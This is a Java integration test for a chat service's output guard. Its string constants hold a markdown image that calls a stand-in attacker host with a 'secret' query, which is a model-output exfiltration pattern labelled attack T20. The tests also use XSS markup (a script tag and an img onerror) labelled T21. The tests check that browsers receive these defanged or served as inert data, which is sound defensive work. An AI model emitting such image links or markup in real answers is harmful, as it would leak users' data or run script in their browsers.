package dev.gaia.chat;

import static dev.gaia.chat.ChatHub.data;
import static dev.gaia.chat.ChatHub.json;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What pages are shown of an answer that would send secrets away (attack T20), on every surface of chat. */
class PageGuardIT {

    private static final String EVIL =
            "Look: ![chart](https://evil.example/p.png?d=secret) and ![own](/api/v1/assets/x) ok.";
    private static final String HARMLESS =
            "Look: [chart](https://evil.example/p.png?d=secret) and ![own](/api/v1/assets/x) ok.";

    private static final String[] ORIGIN = {"Origin", "http://localhost:3000"};

    private static ChatHub hub;

    @BeforeAll
    static void start() {
        hub = ChatHub.start();
    }

    @AfterAll
    static void stop() {
        hub.close();
    }

    @BeforeEach
    void someoneNew() {
        hub.someoneNew();
    }

    private static HttpResponse<String> fromAPage(String path, String body) {
        var headers = new ArrayList<>(List.of(ChatHub.as(hub.caller())));
        headers.addAll(List.of(ORIGIN));
        var text = body.replace('\'', '"');
        return body.isEmpty()
                ? hub.hub().get(path, headers.toArray(String[]::new))
                : hub.hub().post(path, text, headers.toArray(String[]::new));
    }

    /** All texts of a stream, whatever its frames are called. */
    private static String words(HttpResponse<String> answer) {
        return data(answer).stream()
                .filter(line -> line.startsWith("{"))
                .map(ChatHub::json)
                .map(frame -> frame.has("content")
                        ? frame.path("content").asText("")
                        : frame.at("/choices/0/delta/content").asText("")
                                + frame.at("/delta/text").asText(""))
                .collect(Collectors.joining());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/api/v1/chat",
                "/api/v0.2/chat",
                "/api/v0.3/chat",
                "/api/v1/chat/direct",
                "/api/v1/chat/direct-db",
                "/api/v1/chat/mcp-agent",
                "/api/v1/chat/mcp-agent-hot",
                "/api/v1/chat/orchestrated",
                "/api/v1/chat/ultrafast",
                "/api/v1/chat/ultrafast-redis"
            })
    void aWholeAnswerLoadsNothing(String path) {
        hub.provider().next("fake-say " + EVIL, "fake-say " + EVIL);

        var page = fromAPage(path, "{'message':'Hello'}");
        assertThat(page.statusCode()).as(page.body()).isEqualTo(200);
        assertThat(page.body()).contains(HARMLESS).doesNotContain("![chart");
        assertThat(hub.post(path, "{'message':'Hello'}").body())
                .as("a client that is no browser")
                .contains(EVIL);
    }

    @ParameterizedTest
    @ValueSource(strings = {"/v1/chat/completions", "/v1/messages"})
    void neitherDoAnswersInTheFormOfProviders(String path) {
        var body = "{'model':'claude-haiku-4-5','max_tokens':50,'messages':[{'role':'user','content':'Hello'}]}";
        hub.provider().next("fake-say " + EVIL, "fake-spell " + EVIL);

        assertThat(fromAPage(path, body).body()).contains(HARMLESS);
        assertThat(words(fromAPage(path, body.replace("{'model'", "{'stream':true,'model'"))))
                .isEqualTo(HARMLESS);
    }

    @ParameterizedTest
    @ValueSource(strings = {"/api/v1/chat", "/api/v0.2/chat", "/api/v0.3/chat", "/api/v0.2/chat/stream"})
    void aStreamThatSpellsAnImageLoadsNothing(String path) {
        hub.provider().next("fake-spell " + EVIL, "fake-spell " + EVIL, "fake-spell ![chart](https://evil.example");

        assertThat(words(fromAPage(path, "{'message':'Hello','stream':true}"))).isEqualTo(HARMLESS);
        assertThat(words(hub.post(path, "{'message':'Hello','stream':true}"))).isEqualTo(EVIL);
        assertThat(words(fromAPage(path, "{'message':'Hello','stream':true}")))
                .as("what is held back at the end")
                .isEqualTo("[chart](https://evil.example");
    }

    @Test
    void whatIsStoredStaysAndIsGuardedWhenItIsShown() {
        hub.provider().next("fake-say " + EVIL);
        var id = json(fromAPage("/api/v0.3/chat", "{'message':'Hello'}"))
                .path("conversation_id")
                .asText();
        var messages = "/api/v1/conversations/" + id + "/messages";

        await().untilAsserted(() -> assertThat(hub.get(messages).body()).contains(EVIL));
        assertThat(fromAPage(messages, "").body()).contains(HARMLESS);
        hub.post("/api/v0.3/chat", "{'message':'Again','conversation_id':'" + id + "'}");
        assertThat(hub.provider().lastRequest().orElseThrow().body().toString()).contains("![chart]");
    }

    /** Attack T21: whatever a model wrote is data, of a type that no browser runs. */
    @Test
    void markupOfAModelIsServedAsData() {
        var markup = "<script>alert(1)</script><img src=x onerror=alert(2)>";
        hub.provider().next("fake-say " + markup, "fake-say " + markup, "fake-say " + markup);
        var whole = hub.post("/api/v0.3/chat", "{'message':'Hello'}");
        var id = json(whole).path("conversation_id").asText();
        var messages = "/api/v1/conversations/" + id + "/messages";
        await().untilAsserted(() -> assertThat(hub.get(messages).body()).contains("onerror"));

        for (var answer : List.of(whole, hub.get(messages), hub.post("/api/v1/chat", "{'message':'Hello'}"))) {
            assertThat(answer.body()).contains("<script>");
            assertThat(answer.headers().firstValue("Content-Type")).contains("application/json");
            assertThat(answer.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
        }
        var stream = hub.post("/api/v1/chat", "{'message':'Hello','stream':true}");
        assertThat(stream.headers().firstValue("Content-Type")).contains("text/event-stream; charset=utf-8");
        assertThat(stream.headers().firstValue("X-Content-Type-Options")).contains("nosniff");
    }
}
